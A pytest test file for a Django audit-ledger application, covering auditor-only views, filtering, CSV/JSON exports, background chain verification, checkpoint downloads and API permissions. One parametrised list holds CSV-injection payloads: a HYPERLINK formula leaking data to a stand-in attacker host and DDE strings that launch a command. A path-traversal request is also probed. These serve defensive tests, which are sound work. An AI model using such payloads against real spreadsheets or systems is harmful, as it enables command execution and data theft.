"""The auditor's page, exports and API; everyone else is refused."""
import csv
import io
import json

import pytest
from django.db import transaction

from audit.models import AuditEvent, LedgerVerification
from audit.services import record_event


@pytest.fixture
def events(contributor, legal):
    with transaction.atomic():
        return [
            record_event(actor=contributor, action="dataset.uploaded", target=("datasets_app.dataset", 1),
                         after={"name": "tickets"}),
            record_event(actor=legal, action="agreement.approved", target=("agreements.agreement", 5),
                         before={"state": "in_review"}, after={"state": "approved"}, metadata={"note": "ok"}),
            record_event(actor=None, action="agreement.expired", target=("agreements.agreement", 5),
                         before={"state": "approved"}, after={"state": "expired"}),
        ]


def _text(response):
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


def test_auditor_sees_the_ledger_newest_first(client, auditor, events):
    client.force_login(auditor)
    response = client.get("/audit/")
    assert response.status_code == 200
    assert [e.seq for e in response.context["page"]] == [3, 2, 1]
    page = response.content.decode()
    assert "agreement.approved" in page and "steward" in page and "system" in page


@pytest.mark.parametrize("query, seqs", [
    ("action=agreement", [3, 2]),
    ("actor=legal", [2]),
    ("actor=system", [3]),
    ("target_type=agreements.agreement&target_id=5", [3, 2]),
    ("target_id=1", [1]),
    ("action=nothing-like-this", []),
])
def test_auditor_filters_the_ledger(client, auditor, events, query, seqs):
    client.force_login(auditor)
    response = client.get(f"/audit/?{query}")
    assert [e.seq for e in response.context["page"]] == seqs


def test_objects_are_named_as_a_person_reads_them_and_filtered_by_kind(client, auditor, events):
    client.force_login(auditor)
    page = client.get("/audit/").content.decode()
    assert '<option value="agreements.agreement">Agreement</option>' in page
    assert '<option value="datasets_app.datasetversion">Dataset version</option>' in page
    assert "tests.other" not in page
    rows = client.get("/audit/", {"target_type": "datasets_app.dataset"})
    assert [e.seq for e in rows.context["page"]] == [1]
    assert 'title="datasets_app.dataset">Dataset</span>' in rows.content.decode()


def test_the_api_refuses_an_object_type_that_is_not_one(api_client_for, auditor, events):
    response = api_client_for(auditor).get("/api/audit-events/", {"target_type": "auth.nothing"})
    assert response.status_code == 400 and "target_type" in json.dumps(response.json())


def test_filter_by_time(client, auditor, events):
    client.force_login(auditor)
    since = events[1].created_at.isoformat()
    response = client.get("/audit/", {"since": since})
    assert [e.seq for e in response.context["page"]] == [3, 2]


def test_csv_export_holds_every_event(client, auditor, events):
    client.force_login(auditor)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert 'filename="accord-audit.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_text(response))))
    assert [r["seq"] for r in rows] == ["1", "2", "3"]
    assert rows[1]["actor"] == "legal" and rows[1]["action"] == "agreement.approved"
    assert json.loads(rows[1]["after"]) == {"state": "approved"}
    assert [r["hash"] for r in rows] == [e.hash for e in events]
    assert rows[1]["prev_hash"] == events[0].hash


def test_json_export_honours_the_filter(client, auditor, events):
    client.force_login(auditor)
    response = client.get("/audit/export.json?action=agreement")
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    data = json.loads(_text(response))
    assert [d["seq"] for d in data] == [2, 3]
    assert data[0]["before"] == {"state": "in_review"} and data[0]["metadata"] == {"note": "ok"}
    assert data[1]["actor"] == "system" and data[1]["hash"] == events[2].hash


def test_verify_page_does_not_walk_the_chain_in_the_request(client, auditor, events, django_assert_max_num_queries):
    """G8: at a million events the walk takes minutes; the page only lists verifications."""
    client.force_login(auditor)
    with django_assert_max_num_queries(12):
        response = client.get("/audit/verify/")
    assert response.status_code == 200
    assert not LedgerVerification.objects.exists()
    assert "Start a verification" in response.content.decode()


def test_auditor_starts_a_background_verification_and_follows_its_progress(
        client, auditor, events, django_capture_on_commit_callbacks):
    client.force_login(auditor)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post("/audit/verify/start/")
    verification = LedgerVerification.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/audit/verify/{verification.pk}/"
    assert verification.status == "queued" and verification.requested_by == auditor and not verification.full
    assert AuditEvent.objects.filter(action="ledger.verification_requested", actor=auditor).count() == 1

    queued = client.get(f"/audit/verify/{verification.pk}/", HTTP_HX_REQUEST="true")
    assert 'hx-trigger="every 2s"' in queued.content.decode()  # the fragment polls while it runs

    for callback in callbacks:  # the task, eager in tests, runs once the request has committed
        callback()
    verification.refresh_from_db()
    assert verification.status == "intact" and verification.checked == 4  # 3 events + the request itself
    done = client.get(f"/audit/verify/{verification.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "The ledger is intact" in done and "every 2s" not in done


def test_the_page_reports_a_broken_ledger_naming_the_event(client, auditor, events, django_capture_on_commit_callbacks):
    from tests.audit.test_ledger import _raw_update

    _raw_update(events[1].pk, "action", "agreement.rejected")
    client.force_login(auditor)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/audit/verify/start/", {"full": "1"})
    page = client.get(response["Location"]).content.decode()
    assert "The ledger is not intact" in page and f"event #2 (id {events[1].pk})" in page


def test_verification_start_is_post_only(client, auditor, events):
    client.force_login(auditor)
    assert client.get("/audit/verify/start/").status_code == 405
    assert not LedgerVerification.objects.exists()


def test_auditor_downloads_the_signed_checkpoints(client, auditor, events):
    from audit.checkpoints import write_checkpoint

    checkpoint = write_checkpoint(reason="test")
    client.force_login(auditor)
    page = client.get("/audit/verify/").content.decode()
    assert checkpoint.name in page
    response = client.get(f"/audit/checkpoints/{checkpoint.name}")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    body = json.loads(b"".join(response.streaming_content))
    assert body["seq"] == 3 and body["hash"] == events[2].hash and body["signature"]
    assert client.get("/audit/checkpoints/checkpoint-000000000099-20250101T000000000000Z.json").status_code == 404
    assert client.get("/audit/checkpoints/..%2Fsettings.py").status_code == 404


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_csv_export_neutralises_formula_cells(client, auditor, title):
    """Issue 10 point 4 (OWASP CSV injection): a dataset titled like a formula is exported inert."""
    with transaction.atomic():
        record_event(actor=auditor, action="dataset.created", target=("datasets_app.dataset", 7),
                     after={"title": title})
        evil = AuditEvent.objects.get()
    # target_repr and actor_repr are free text too: put the formula where a spreadsheet sees it first.
    from tests.audit.test_ledger import _raw_update
    _raw_update(evil.pk, "target_repr", title)
    client.force_login(auditor)
    rows = list(csv.reader(io.StringIO(_text(client.get("/audit/export.csv")))))
    header, row = rows[0], rows[1]
    cell = row[header.index("target_repr")]
    assert cell == "'" + title
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert row[header.index("seq")] == "1"


def test_csv_safe_leaves_ordinary_values_alone():
    from audit.exports import csv_safe

    assert csv_safe("agreement.approved") == "agreement.approved"
    assert csv_safe(-3) == -3 and csv_safe(None) is None
    assert csv_safe('{"title": "=1+1"}') == '{"title": "=1+1"}'
    assert csv_safe("=1+1") == "'=1+1"


@pytest.mark.parametrize("url", ["/audit/", "/audit/verify/", "/audit/verify/1/", "/audit/export.csv", "/audit/export.json"])
@pytest.mark.parametrize("fixture", ["contributor", "researcher", "legal", "ml_admin"])
def test_non_auditors_are_refused(client, request, events, url, fixture):
    client.force_login(request.getfixturevalue(fixture))
    assert client.get(url).status_code == 403


def test_anonymous_visitors_are_sent_to_login(client, db):
    response = client.get("/audit/export.csv")
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_api_lists_events_for_auditors(api_client_for, auditor, events):
    response = api_client_for(auditor).get("/api/audit-events/", {"action": "agreement.appr"})
    assert response.status_code == 200
    body = response.json()
    assert len(body["results"]) == 1 and body["next"] is None  # keyset pages: no count over the ledger
    assert body["results"][0]["seq"] == 2 and body["results"][0]["actor_repr"] == "legal"
    assert body["results"][0]["hash"] == events[1].hash


@pytest.mark.parametrize("fixture", ["contributor", "researcher", "legal", "ml_admin"])
def test_api_refuses_non_auditors(api_client_for, request, events, fixture):
    response = api_client_for(request.getfixturevalue(fixture)).get("/api/audit-events/")
    assert response.status_code == 403
    assert response.json() == {"message": "Only auditors read the audit ledger.", "code": "permission_denied"}


def test_api_is_read_only(api_client_for, auditor, events):
    client = api_client_for(auditor)
    assert client.post("/api/audit-events/", {"action": "forged"}, format="json").status_code == 405
